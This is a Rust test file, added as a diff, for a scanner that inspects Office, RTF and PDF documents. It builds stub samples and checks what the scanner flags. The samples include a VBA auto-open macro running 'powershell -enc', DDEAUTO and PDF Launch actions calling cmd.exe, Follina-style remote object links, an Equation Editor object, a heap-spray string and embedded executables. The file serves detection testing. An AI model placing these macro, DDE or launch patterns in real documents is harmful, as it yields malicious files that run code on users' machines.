@@ -1,0 +1,276 @@
+//! Documents made here, innocent and harmful: what is seen of each.
+
+use std::io::{Cursor, Write};
+use std::time::Duration;
+
+use super::*;
+use crate::limits::{Budget, Limits};
+use crate::mime;
+
+fn seen(bytes: &[u8]) -> Seen {
+    let part = mime::alone(bytes, "a.doc", "application/octet-stream").message.parts.remove(0);
+    let limits = Limits::default();
+    let mut allowance = Allowance::new(&limits, Budget::starting_now(Duration::from_secs(10)));
+    if bytes.starts_with(b"%PDF") {
+        look_at_pdf(bytes, &part, &mut allowance)
+    } else {
+        look(bytes, &part, &mut allowance)
+    }
+}
+
+fn check(name: &str, bytes: &[u8], expected: &[Check]) -> Seen {
+    let seen = seen(bytes);
+    let mut checks: Vec<Check> = seen.signals.iter().map(|signal| signal.check).collect();
+    checks.dedup();
+    assert_eq!(checks, expected, "{name}: {:?}", seen.signals);
+    seen
+}
+
+/// A container without compression: flag bytes of zero, each before eight bytes.
+fn uncompressed(source: &str) -> Vec<u8> {
+    let mut chunk = Vec::new();
+    for eight in source.as_bytes().chunks(8) {
+        chunk.push(0);
+        chunk.extend(eight);
+    }
+    let header = 0xb000 | u16::try_from(chunk.len() - 1).expect("a short module");
+    [&[1][..], &header.to_le_bytes(), &chunk].concat()
+}
+
+fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("memory");
+    for (path, bytes) in streams {
+        if let Some((folder, _)) = path.rsplit_once('/') {
+            file.create_storage_all(folder).expect("storage");
+        }
+        file.create_stream(path).expect("stream").write_all(bytes).expect("write");
+    }
+    file.into_inner().into_inner()
+}
+
+fn ooxml(entries: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    for (name, bytes) in entries {
+        writer.start_file(*name, zip::write::SimpleFileOptions::default()).expect("start");
+        writer.write_all(bytes).expect("write");
+    }
+    writer.finish().expect("finish").into_inner()
+}
+
+fn module(body: &str) -> Vec<u8> {
+    uncompressed(&format!("Attribute VB_Name = \"ThisDocument\"\r\n{body}\r\n"))
+}
+
+const DROPPER: &str = "Sub Document_Open()\r\nCreateObject(\"WScript.Shell\").Run \"powershell -enc x\"\r\nEnd Sub";
+const HELPER: &str = "Sub Workbook_Open()\r\nSheets(1).Activate ' Shell is not used\r\nEnd Sub";
+
+#[test]
+fn macros_are_told_apart_by_what_they_do() {
+    use Check as C;
+    let old = |body: &str| compound(&[("/Macros/VBA/ThisDocument", &module(body))]);
+    check("a dropper", &old(DROPPER), &[C::Macro, C::MacroActs]);
+    check("a helper that starts by itself", &old(HELPER), &[C::Macro, C::MacroAutomatic]);
+    check("a function", &old("Function Twice(x)\r\nTwice = 2 * x\r\nEnd Function"), &[C::Macro]);
+    check("no macros", &compound(&[("/WordDocument", b"nothing")]), &[]);
+    let project = compound(&[("/VBA/ThisWorkbook", &module(DROPPER))]);
+    check("a new document", &ooxml(&[("xl/vbaProject.bin", &project)]), &[C::Macro, C::MacroActs]);
+    check(
+        "Excel 4.0",
+        &ooxml(&[
+            ("xl/macrosheets/sheet1.xml", b"<a/>"),
+            ("xl/workbook.xml", b"<x><definedName name=\"_xlnm.Auto_Open\">1</definedName></x>"),
+        ]),
+        &[C::MacroActs],
+    );
+}
+
+#[test]
+fn what_a_document_loads_when_it_is_opened() {
+    use Check as C;
+    let relation = |kind: &str, target: &str| {
+        let rels = format!(
+            "<Relationships><Relationship Id=\"1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
+        );
+        ooxml(&[("word/_rels/settings.xml.rels", rels.as_bytes())])
+    };
+    check(
+        "a template of the own server",
+        &relation("attachedTemplate", "file:///\\\\server\\templates\\letter.dotx"),
+        &[C::DocumentLink],
+    );
+    check(
+        "a template of a site",
+        &relation("attachedTemplate", "https://intranet.example.com/letter.dotx"),
+        &[C::DocumentLink],
+    );
+    check("a template of an address", &relation("attachedTemplate", "http://192.0.2.7/a.dotm"), &[C::DocumentRemote]);
+    check(
+        "a template that is none",
+        &relation("attachedTemplate", "https://example.invalid/x?id=7"),
+        &[C::DocumentRemote],
+    );
+    check(
+        "an object through a handler",
+        &relation("oleObject", "mhtml:http://example.invalid/a!x-usc:http://example.invalid/a"),
+        &[C::DocumentRemote],
+    );
+    check(
+        "an object that ends so (Follina)",
+        &relation("oleObject", "https://example.invalid/a.html!"),
+        &[C::DocumentRemote],
+    );
+    let linked = check("a link", &relation("hyperlink", "https://www.example.com/"), &[]);
+    assert_eq!(linked.links, ["https://www.example.com/"]);
+    check("a picture from elsewhere", &relation("image", "https://www.example.com/a.png"), &[]);
+}
+
+#[test]
+fn fields_that_ask_another_program() {
+    use Check as C;
+    let document =
+        |inside: &str| ooxml(&[("word/document.xml", format!("<w:document>{inside}</w:document>").as_bytes())]);
+    check(
+        "a whole field",
+        &document("<w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\" '/>"),
+        &[C::Dde],
+    );
+    check(
+        "a field in pieces",
+        &document(
+            "<w:fldChar w:fldCharType='begin'/><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText><w:fldChar w:fldCharType='separate'/>",
+        ),
+        &[C::Dde],
+    );
+    check("a page number", &document("<w:fldSimple w:instr=' PAGE '/><w:instrText>TOC</w:instrText>"), &[]);
+    check("a text about DDE", &document("<w:t>DDEAUTO is old</w:t>"), &[]);
+    check("RTF", b"{\\rtf1{\\field{\\*\\fldinst { DDEAUTO cmd \"/c calc\"}}}}", &[C::Dde]);
+}
+
+fn packaged(name: &str, bytes: &[u8]) -> Vec<u8> {
+    let path = format!("C:\\{name}\0");
+    [
+        &0_u32.to_le_bytes()[..],
+        &[2, 0],
+        name.as_bytes(),
+        &[0],
+        path.as_bytes(),
+        &[0, 0, 3, 0],
+        &(path.len() as u32).to_le_bytes(),
+        path.as_bytes(),
+        &(bytes.len() as u32).to_le_bytes(),
+        bytes,
+    ]
+    .concat()
+}
+
+#[test]
+fn what_is_embedded_comes_out() {
+    use Check as C;
+    let package = packaged("a.exe", b"MZ and more");
+    let seen = check("a package", &compound(&[("/ObjectPool/_1/\u{1}Ole10Native", &package)]), &[C::DocumentEmbeds]);
+    assert_eq!((seen.members[0].name.as_str(), seen.members[0].bytes.as_slice()), ("a.exe", &b"MZ and more"[..]));
+    let seen = check("a file", &ooxml(&[("word/embeddings/data.xlsx", b"PK")]), &[C::DocumentEmbeds]);
+    assert_eq!(seen.members[0].name, "data.xlsx");
+    let seen = check("a picture", &ooxml(&[("word/media/image1.png", b"\x89PNG")]), &[]);
+    assert_eq!(seen.members.len(), 1);
+    let hex = |bytes: &[u8]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
+    let object = |class: &str, data: &[u8]| {
+        let class = format!("{class}\0");
+        let bytes = [
+            &[1, 5, 0, 0, 2, 0, 0, 0][..],
+            &(class.len() as u32).to_le_bytes(),
+            class.as_bytes(),
+            &[0; 8],
+            &(data.len() as u32).to_le_bytes(),
+            data,
+        ]
+        .concat();
+        format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {}\r\n}}}}}}", hex(&bytes))
+    };
+    let seen = check("a package in RTF", object("Package", &package[4..]).as_bytes(), &[C::DocumentEmbeds]);
+    assert_eq!(seen.members[0].name, "a.exe");
+    check("the equation editor", object("Equation.3", b"x").as_bytes(), &[C::RtfExploit, C::DocumentEmbeds]);
+    check("a template in RTF", b"{\\rtf1{\\*\\template http://192.0.2.1/a}}", &[C::DocumentRemote]);
+    check(
+        "a saved mail",
+        &compound(&[
+            ("/__attach_version1.0_#00000000/__substg1.0_37010102", b"MZ"),
+            ("/__attach_version1.0_#00000000/__substg1.0_3707001F", b"a\0.\0e\0x\0e\0"),
+        ]),
+        &[],
+    );
+}
+
+#[test]
+fn encrypted_documents_are_told() {
+    use Check as C;
+    check("a new one", &compound(&[("/EncryptedPackage", b"x"), ("/EncryptionInfo", b"x")]), &[C::EncryptedDocument]);
+    check("Excel", &compound(&[("/Workbook", &[0x2f, 0, 2, 0, 0, 0])]), &[C::EncryptedDocument]);
+    check("a PDF", b"%PDF-1.7\ntrailer<</Encrypt 5 0 R>>", &[C::EncryptedDocument]);
+}
+
+#[test]
+fn what_a_pdf_does() {
+    use Check as C;
+    let pdf = |inside: &str| format!("%PDF-1.7\n{inside}\n%%EOF").into_bytes();
+    check("nothing", &pdf("1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj"), &[]);
+    check(
+        "a form that counts",
+        &pdf("1 0 obj<</AA<</C<</S/JavaScript/JS(AFSimple_Calculate\\(\"SUM\"\\))>>>>>>endobj"),
+        &[C::PdfScript],
+    );
+    check("a launch", &pdf("1 0 obj<</OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>endobj"), &[C::PdfLaunch]);
+    check("a hidden launch", &pdf("1 0 obj<</OpenAction<</S/L#61unch/F(a.exe)>>>>endobj"), &[C::PdfLaunch]);
+    check("another document", &pdf("1 0 obj<</A<</S/Launch/F(other.pdf)>>>>endobj"), &[C::PdfScript]);
+    check(
+        "an exploit",
+        &pdf("1 0 obj<</OpenAction<</S/JavaScript/JS(var s = unescape\\(\"%u9090%u9090\"\\);)>>>>endobj"),
+        &[C::PdfScript, C::PdfExploit],
+    );
+    let linked = check(
+        "links",
+        &pdf(
+            "1 0 obj<</A<</S/URI/URI(https://www.example.com/a\\(b\\))>>>>endobj 2 0 obj<</URI<68747470733a2f2f782e6578616d706c65>>>endobj",
+        ),
+        &[],
+    );
+    assert_eq!(linked.links, ["https://www.example.com/a(b)", "https://x.example"]);
+    let deflated = |bytes: &[u8]| {
+        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+        encoder.write_all(bytes).expect("write");
+        encoder.finish().expect("finish")
+    };
+    let objects = deflated(b"1 0 <</S/Launch/F(a.exe)>>");
+    let hidden =
+        [b"%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\r\n".as_slice(), &objects, b"\nendstream endobj"]
+            .concat();
+    check("a launch in an object stream", &hidden, &[C::PdfLaunch]);
+    let file = [
+        b"%PDF-1.7\n1 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\n".as_slice(),
+        &deflated(b"MZ and more"),
+        b"\nendstream",
+    ]
+    .concat();
+    let seen = check("a file", &file, &[C::DocumentEmbeds]);
+    assert_eq!(seen.members[0].bytes, b"MZ and more");
+}
+
+#[test]
+fn damage_is_never_bad_in_itself() {
+    let whole = ooxml(&[("word/document.xml", b"<a/>")]);
+    for bytes in [
+        &whole[..30],
+        b"PK\x03\x04".as_slice(),
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1cut off",
+        b"{\\rtf1{\\*\\objdata 0105",
+        b"%PDF-1.7 (",
+        b"%PDF-1.7 /URI (",
+    ] {
+        let seen = seen(bytes);
+        assert!(
+            seen.signals.iter().all(|signal| matches!(signal.check, Check::NotAnalysed | Check::DocumentEmbeds)),
+            "{:?}",
+            seen.signals
+        );
+    }
+}
